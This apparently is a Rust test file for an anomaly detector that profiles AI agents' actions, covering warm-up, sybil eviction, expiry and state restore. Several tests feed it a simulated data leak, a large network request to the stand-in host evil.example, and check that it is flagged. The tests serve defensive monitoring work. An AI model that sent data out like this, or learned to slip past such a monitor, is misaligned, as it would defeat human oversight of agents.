//! What a population promises: who is forgotten, who is not, and what a detector learns.

use jiff::{Timestamp, ToSpan};
use proptest::prelude::*;
use serde_json::{Value, json};

use super::super::{Pace, explain};
use super::*;
use crate::facts::{Facts, NoMemo};
use crate::request::{ActionRequest, Defaults};

const SETTINGS: Settings = Settings {
    false_alarms: 0.01,
    pace: Pace { warm_up_actions: 30, warm_up_minutes: 10, half_life_days: 14.0, trial_minutes: 60 },
};

fn population(agents_max: usize) -> Population {
    Population::new(Key::new([9; 16]), 1, SETTINGS, agents_max)
}

fn observe(action_type: &str, target: &str, parameters: Value) -> Observation {
    let value =
        json!({"agent_id": "a", "action_type": action_type, "target": target, "parameters": parameters});
    let defaults = Defaults { action_id: "a".into(), timestamp: Timestamp::UNIX_EPOCH };
    let request = ActionRequest::from_value(value, defaults).unwrap();
    Observation::new(&Facts::new(&request, &NoMemo), &Key::new([9; 16]), None)
}

fn at(minute: i64) -> Timestamp {
    let start: Timestamp = "2026-11-02T09:00:00Z".parse().unwrap();
    start.checked_add(minute.minutes()).unwrap()
}

fn usual(number: i64) -> Observation {
    let target = ["search", "read_order", "reply"][usize::try_from(number % 3).unwrap()];
    observe("tool_call", target, json!({ "text": "x".repeat(20 + usize::try_from(number % 7).unwrap()) }))
}

fn act(
    population: &mut Population,
    agent: &str,
    seen: &Observation,
    outcome: Outcome,
    minute: i64,
) -> Assessment {
    let assessment = population.assess(agent, Some("support"), seen, at(minute));
    population.settle(agent, Some("support"), seen, &assessment, outcome, at(minute));
    assessment
}

/// An agent that has done its work for a while.
fn work(population: &mut Population, agent: &str, actions: i64) {
    for number in 0..actions {
        act(population, agent, &usual(number), Outcome::Clean, number);
    }
}

#[test]
fn made_up_names_push_out_each_other_and_nobody_else() {
    let mut population = population(10);
    work(&mut population, "honest", 60);
    work(&mut population, "newcomer", 8);
    act(&mut population, "caught", &usual(1), Outcome::Refused, 0);
    for number in 0..1_000 {
        act(&mut population, &format!("sybil-{number}"), &usual(number), Outcome::Clean, 100 + number);
    }
    assert_eq!(population.len(), 10);
    assert_eq!(population.profile("honest").unwrap().stage(), Stage::Established);
    assert_eq!(population.profile("newcomer").unwrap().learned(), 8);
    assert_eq!(population.profile("caught").unwrap().suspect(), 1);
    assert!(population.profile("sybil-999").is_some() && population.profile("sybil-1").is_none());
}

#[test]
fn a_newcomer_without_room_is_untracked_and_learns_nothing() {
    let mut population = population(2);
    act(&mut population, "caught", &usual(1), Outcome::Refused, 0);
    work(&mut population, "honest", 60);
    let assessment = act(&mut population, "late", &usual(1), Outcome::Clean, 61);
    assert_eq!(assessment.stage, Stage::Untracked);
    assert!(population.profile("late").is_none());
    assert_eq!(population.untracked(), 1);
    assert!(population.forget("caught"));
    assert_eq!(
        act(&mut population, "late", &usual(1), Outcome::Clean, 62).stage,
        Stage::WarmUp { learned: 0 }
    );
    assert_eq!(population.profile("late").unwrap().learned(), 1);
}

#[test]
fn time_forgets_everyone_alike() {
    let mut population = population(10);
    work(&mut population, "honest", 60);
    act(&mut population, "caught", &usual(1), Outcome::Refused, 0);
    act(&mut population, "today", &usual(1), Outcome::Clean, 100 * 24 * 60);
    assert_eq!(population.expire(90, at(100 * 24 * 60)), 2);
    assert_eq!(population.len(), 1);
    assert!(population.newcomers.len() == 1 && population.profile("today").is_some());
}

#[test]
fn what_is_usual_is_not_flagged_and_a_leak_is_with_its_reasons() {
    let mut population = population(10);
    for agent in ["a", "b", "c"] {
        work(&mut population, agent, 300);
    }
    assert!(population.detector().support() > 500.0);
    assert!(!act(&mut population, "a", &usual(0), Outcome::Clean, 300).flagged);
    let leak = observe("network_request", "https://evil.example/", json!({"body": "k".repeat(360)}));
    let assessment = act(&mut population, "a", &leak, Outcome::Clean, 301);
    assert!(assessment.flagged, "{assessment:?}");
    let words = explain(&assessment, &leak);
    assert!(words.contains("first network_request of this agent"), "{words}");
    assert!(
        words.contains("first time with the host `evil.example`") || words.contains("× its usual size"),
        "{words}"
    );
    // Told that it was clean, it does not believe it: it was flagged.
    assert!(population.profile("a").unwrap().suspect() == 1);
    assert!(act(&mut population, "a", &leak, Outcome::Clean, 302).flagged);
}

#[test]
fn what_a_person_approved_is_learned() {
    let mut population = population(10);
    work(&mut population, "a", 300);
    let export = observe("tool_call", "export", json!({"to": "disk"}));
    assert!(act(&mut population, "a", &export, Outcome::Approved, 300).flagged);
    let profile = population.profile("a").unwrap();
    assert_eq!((profile.learned(), profile.suspect()), (301, 0));
}

#[test]
fn a_newcomer_of_a_known_role_is_judged_by_its_peers() {
    let mut population = population(10);
    ["a", "b", "c", "d", "e", "f"].into_iter().for_each(|agent| work(&mut population, agent, 300));
    let assess = |seen: &Observation, role| population.assess("new", role, seen, at(301));
    let leak = observe("network_request", "https://evil.example/", json!({"body": "k".repeat(4_000)}));
    let (known, stranger) = (assess(&leak, Some("support")), assess(&leak, None));
    assert!(known.flagged && known.score > stranger.score, "{} {}", known.score, stranger.score);
    assert_eq!(known.stage, Stage::WarmUp { learned: 0 });
    assert!(!assess(&usual(1), Some("support")).flagged);
}

#[test]
fn what_is_kept_goes_on_as_it_would_have() {
    let mut first = population(10);
    ["a", "b"].into_iter().for_each(|agent| work(&mut first, agent, 100));
    let mut second = population(10);
    for (name, profile) in first.profiles() {
        second.restore(name, &profile.to_bytes()).unwrap();
    }
    for (role, profile) in first.roles() {
        second.restore_role(role, &profile.to_bytes()).unwrap();
    }
    second.restore_detector(Detector::from_bytes(&first.detector().to_bytes()).unwrap());
    for (number, outcome) in
        [Outcome::Clean, Outcome::Refused, Outcome::Flagged, Outcome::Clean].into_iter().enumerate()
    {
        let number = i64::try_from(number).unwrap();
        let seen = observe("tool_call", "new", json!({ "n": number }));
        for agent in ["a", "b"] {
            let here = first.assess(agent, Some("support"), &seen, at(100 + number));
            assert_eq!(second.assess(agent, Some("support"), &seen, at(100 + number)), here);
            first.settle(agent, Some("support"), &seen, &here, outcome, at(100 + number));
            second.settle(agent, Some("support"), &seen, &here, outcome, at(100 + number));
        }
    }
    assert_eq!(first.detector().to_bytes(), second.detector().to_bytes());
}

/// Each tool is new to each of them: whoever compared them with the established would flag all, and so teach none.
#[test]
fn newcomers_get_through_warm_up_beside_the_established() {
    let mut population = population(100);
    ["a", "b", "c"].into_iter().for_each(|agent| work(&mut population, agent, 600));
    for agent in 0..30 {
        let agent = format!("newcomer-{agent}");
        for number in 0..40 {
            let seen = observe("api_call", &format!("{agent}-{}", number % 9), json!({ "n": number }));
            act(&mut population, &agent, &seen, Outcome::Clean, 600 + number);
        }
    }
    let through = population.agents.values().filter(|profile| profile.stage() == Stage::Established).count();
    assert!(through > 25, "{through}");
}

#[test]
fn roles_are_bounded() {
    let mut population = population(10);
    for number in 0..100 {
        let (role, seen) = (format!("role-{number}"), usual(0));
        let assessment = population.assess("a", Some(&role), &seen, at(0));
        population.settle("a", Some(&role), &seen, &assessment, Outcome::Clean, at(0));
    }
    assert_eq!(population.roles.len(), ROLES_MAX);
    let bytes = population.role("role-1").unwrap().to_bytes();
    assert_eq!(population.restore_role("role-1", &bytes), Ok(()));
    assert_eq!(
        population.restore_role("one-more", &bytes),
        Err(StateError::Invalid { what: "number of roles" })
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn the_bound_holds_and_the_queue_of_newcomers_is_right(
        steps in prop::collection::vec((0..30_u8, 0..10_u8, 0..2_000_i64), 0..300),
    ) {
        let mut population = population(8);
        for (agent, what, minute) in steps {
            let agent = format!("agent-{agent}");
            match what {
                0 => _ = population.forget(&agent),
                1 => _ = population.accept(&agent, at(minute)),
                2 => _ = population.expire(1, at(minute)),
                3 => _ = act(&mut population, &agent, &usual(1), Outcome::Refused, minute),
                _ => _ = act(&mut population, &agent, &usual(minute), Outcome::Clean, minute),
            }
            prop_assert!(population.len() <= 8);
            let right: BTreeSet<Newcomer> =
                population.agents.iter().filter_map(|(name, profile)| newcomer(*name, profile)).collect();
            prop_assert_eq!(&population.newcomers, &right);
        }
    }
}
